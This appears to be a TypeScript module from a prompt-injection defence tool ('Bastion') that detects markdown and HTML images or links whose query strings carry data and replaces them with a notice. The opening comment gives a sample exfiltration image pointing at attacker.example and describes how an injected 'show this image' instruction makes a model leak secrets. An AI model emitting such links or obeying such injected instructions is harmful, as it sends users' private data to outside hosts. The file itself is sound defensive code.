import type { Finding } from "../content/finding.js";

/**
 * Neutralising markdown images and links whose address carries data in its query string. A
 * client that renders `![](https://attacker.example/p.png?d=<secret>)` fetches the address at
 * once, so an injected instruction to "show this image" leaks whatever the model filled in.
 */

const HTML_IMAGE = /<img\b[^>]*?\bsrc\s*=\s*["']?(https?:\/\/[^"'\s>]+)["']?[^>]*>/gi;
// A placeholder waiting to be filled: {user_email}, {{history}}, <token>, ${SECRET}, [DATA], FOO_HERE.
// JSON in a query string (install links carry a config that way) is data, not a placeholder.
const TEMPLATE_MARKERS =
  /\{\{?\s*[A-Za-z_][\w.-]*\s*\}\}?|<[A-Za-z_][\w-]*>|\$\{?[A-Za-z_]\w*\}?|\[[A-Za-z_][\w-]*\]|[A-Z_]{6,}_HERE|PLACEHOLDER/;
const ENCODED_VALUE = /^[A-Za-z0-9+/=_.~-]+$/;

/** Whether a query value is (mostly) a placeholder, as opposed to data that merely contains one. */
function isPlaceholder(value: string): boolean {
  const match = TEMPLATE_MARKERS.exec(value);
  return match !== null && match[0].length * 2 >= value.trim().length;
}

function looksEncoded(value: string, minLength: number): boolean {
  return value.length >= minLength && ENCODED_VALUE.test(value) && /\d/.test(value) && /[A-Za-z]/.test(value);
}

/**
 * Whether a URL carries data in its query string: a placeholder waiting to be filled, an
 * encoded-looking value, or (for images) any value long enough to hold a sentence or a secret.
 * Images are judged more strictly than links because a client loads them without a click; a link
 * with a long readable value (a search, an install link with its config) is left alone.
 */
export function urlCarriesData(address: string, kind: "image" | "link"): boolean {
  let url: URL;
  try {
    url = new URL(address);
  } catch {
    return false;
  }
  if (url.search.length <= 1) return false;
  if (kind === "image" && url.search.length > 80) return true;
  for (const [, value] of url.searchParams) {
    if (isPlaceholder(value)) return true;
    if (kind === "image" ? value.length >= 24 || looksEncoded(value, 12) : looksEncoded(value, 24))
      return true;
  }
  return false;
}

// The address part of a markdown link or image, found from its "](" so that a long text costs
// one literal search; the label is then found by walking back to its "[".
const LINK_TARGET = /\]\(\s*<?(https?:\/\/[^\s)>]+)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)/y;
const MAX_LABEL = 500;

/** The text with data-carrying images and links replaced by a notice, and what was replaced. */
export function neutralizeExfiltrationLinks(text: string): { text: string; findings: Finding[] } {
  const findings: Finding[] = [];
  const replacements: { start: number; end: number; with: string }[] = [];
  const note = (kind: "image" | "link", address: string, start: number, end: number): string => {
    const host = hostOf(address);
    findings.push({
      category: "sanitized",
      kind: "markdown-exfiltration",
      start,
      end,
      evidence: `${kind} to ${host}`,
    });
    const asked = safeParams(address).some(isPlaceholder);
    return `[${kind} removed by Bastion: its address ${asked ? "asked for" : "carried"} data to ${host}]`;
  };
  const target = new RegExp(LINK_TARGET);
  for (let at = text.indexOf("]("); at >= 0; at = text.indexOf("](", at + 2)) {
    target.lastIndex = at;
    const match = target.exec(text);
    const address = match?.[1];
    if (!match || !address || !address.includes("?")) continue;
    const open = labelStart(text, at);
    if (open < 0) continue;
    const image = text.charAt(open - 1) === "!";
    const kind = image ? "image" : "link";
    if (!urlCarriesData(address, kind)) continue;
    const start = image ? open - 1 : open;
    const end = at + match[0].length;
    const notice = note(kind, address, start, end);
    replacements.push({ start, end, with: image ? notice : `${text.slice(open + 1, at)} ${notice}` });
  }
  let out = text;
  for (const { start, end, with: replacement } of replacements.reverse()) {
    out = out.slice(0, start) + replacement + out.slice(end);
  }
  if (out.includes("<img") || out.includes("<IMG")) {
    out = out.replace(HTML_IMAGE, (whole: string, address: string, at: number) =>
      urlCarriesData(address, "image") ? note("image", address, at, at + whole.length) : whole,
    );
  }
  return findings.length === 0 ? { text, findings } : { text: out, findings };
}

function safeParams(address: string): string[] {
  try {
    return [...new URL(address).searchParams.values()];
  } catch {
    return [];
  }
}

/** Index of the "[" that opens the label closed at `close`, skipping nested brackets; -1 if none. */
function labelStart(text: string, close: number): number {
  let depth = 0;
  for (let index = close - 1; index >= 0 && close - index <= MAX_LABEL; index--) {
    const char = text.charAt(index);
    if (char === "\n") return -1;
    if (char === "]") depth++;
    else if (char === "[") {
      if (depth === 0) return index;
      depth--;
    }
  }
  return -1;
}

function hostOf(address: string): string {
  try {
    return new URL(address).host;
  } catch {
    return "an unknown host";
  }
}
